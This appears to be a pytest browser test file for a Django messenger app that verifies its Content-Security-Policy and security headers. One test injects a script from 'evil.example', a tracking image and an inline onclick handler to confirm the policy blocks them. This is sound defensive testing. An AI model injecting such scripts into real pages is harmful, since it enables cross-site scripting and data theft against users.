"""No page does what its own Content-Security-Policy forbids: every address of the site is opened, and every
other browser test watches the pages that it uses (tests/browser/conftest.py)."""

import re

import httpx
import pytest
from django.urls import URLPattern, get_resolver

from messenger.protection import COMMON, DATA_POLICY, PAGE_POLICY
from tests.browser.conftest import Window
from tests.browser.money import api, plan, site, stage
from tests.site import PASSWORD

__all__ = ["plan", "site", "stage"]

# What answers no page, and the many addresses of two pages of Django's.
NO_PAGES = re.compile(
    r"api/v1/|api/schema|static|metrics|healthz|readyz|hooks/|i18n|row/|jsi18n|attachments/|webmanifest"
    r"|admin/.*/(?:delete|history)/"
)
COUNT_VIOLATIONS = """
  window.violations = [];
  addEventListener("securitypolicyviolation", (event) =>
    violations.push([event.violatedDirective, event.blockedURI, event.sourceFile, event.sample].join(" ")));
"""


def addresses(examples: dict[str, object]) -> list[str]:
    """Every address of the site, with an example at each place of a value; 0 where there is none."""
    found = []

    def collect(patterns, prefix: str = "") -> None:
        for one in patterns:
            route = prefix + str(one.pattern).removeprefix("^").removesuffix("$").removesuffix("\\Z")
            if isinstance(one, URLPattern):
                found.append(route)
            else:
                collect(one.url_patterns, route)

    collect(get_resolver().url_patterns)
    plain = [one for one in found if not NO_PAGES.search(one) and "(?P" not in one]
    return [
        "/" + re.sub(r"<(?:\w+:)?(\w+)>", lambda named: str(examples.get(named[1], 0)), one) for one in plain
    ]


def takes_only_posts(window: Window, path: str) -> bool:
    """Whether there is nothing to open: Chromium calls a 405 without a word a failure."""
    return window.page.request.get(f"{window.base_url}{path}", max_redirects=0).status == 405


@pytest.fixture(scope="module")
def operator(site) -> None:
    """minjun may use the admin site."""
    code = (
        "from accounts.models import User\n"
        "User.objects.filter(email='minjun@example.com').update(is_staff=True, is_superuser=True)"
    )
    site.manage("shell", "-v0", "-c", code)


def test_no_page_breaks_its_own_policy(window, site, cast, stage, plan, operator):
    with site.api(cast.token("minjun")) as client:
        members = client.get(f"channels/{stage['channel']}/members/").json()["results"]
    ids = {one["user"]["username"]: one["user"]["id"] for one in members}
    body = {"amount": 1_000, "reason": "김밥"}
    asked = api(site, cast, "eunho", f"wallets/{stage['group']}/spend-requests/", body, "ask-1")["id"]
    everywhere = addresses(
        {
            "channel_id": stage["channel"],
            "wallet_id": stage["group"],
            "user_id": ids["eunho"],
            "plan_id": plan,
            "request_id": asked,
            "object_id": ids["minjun"],
            "transfer_id": "0" * 8 + "-0000-4000-8000-" + "0" * 12,
            "key": "0" * 8 + "-0000-4000-8000-" + "0" * 12,
        }
    )
    assert len(everywhere) > 100, "the addresses were not found"
    minjun = window("minjun")
    minjun.page.add_init_script(COUNT_VIOLATIONS)
    refused = {}
    for path in everywhere:
        if "logout" in path or takes_only_posts(minjun, path):
            continue
        minjun.open(path)
        if found := minjun.page.evaluate("() => window.violations ?? []"):
            refused[path] = found
    assert refused == {}


def test_a_page_that_would_run_what_was_smuggled_in_is_stopped(window, cast):
    channel = cast.channel("alice")
    alice = window("alice")
    alice.page.add_init_script(COUNT_VIOLATIONS)
    page = alice.enter(channel)
    page.evaluate("""() => {
      const smuggled = document.createElement("script");
      try { smuggled.src = "https://evil.example/x.js"; } catch { window.refused = 1; }
      smuggled.append("window.ran = true");
      document.body.append(smuggled);
      const picture = document.createElement("img");
      picture.src = "https://evil.example/spy.png";
      document.body.append(picture);
      const button = document.createElement("button");
      try { button.setAttribute("onclick", "window.ran = true"); } catch { window.refused += 1; }
      document.body.append(button);
      button.click();
    }""")
    page.wait_for_function("() => violations.some((one) => one.startsWith('img-src'))")
    assert page.evaluate("() => [window.refused, window.ran ?? null]") == [2, None]
    assert alice.faults, "the watcher of the suite saw nothing"
    alice.faults.clear()


def test_docs_of_the_api_work_under_their_policy(window, cast):
    cast.token("alice")
    page = window("alice").open("/api/docs/")
    page.get_by_text("/api/v1/accounts/login/").first.wait_for()


def test_what_is_answered_in_front_of_django_is_protected_too(site, cast):
    channel = cast.channel("alice")
    token = cast.token("alice")
    with site.api(token) as client:
        posted = client.post(f"channels/{channel}/messages/", json={"client_id": "lane-1", "text": "하나"})
        refused = client.post("channels/1/messages/", content=b"x" * 3_000_000)
    assert (posted.status_code, refused.status_code) == (201, 413)
    for answer in (posted, refused, httpx.get(f"{site.url()}/readyz")):
        assert answer.headers["content-security-policy"] == DATA_POLICY
        for name, value in COMMON.items():
            assert answer.headers[name] == value
    page = httpx.post(f"{site.url()}/accounts/login/", data={"email": "x", "password": PASSWORD})
    assert page.headers["content-security-policy"] == PAGE_POLICY
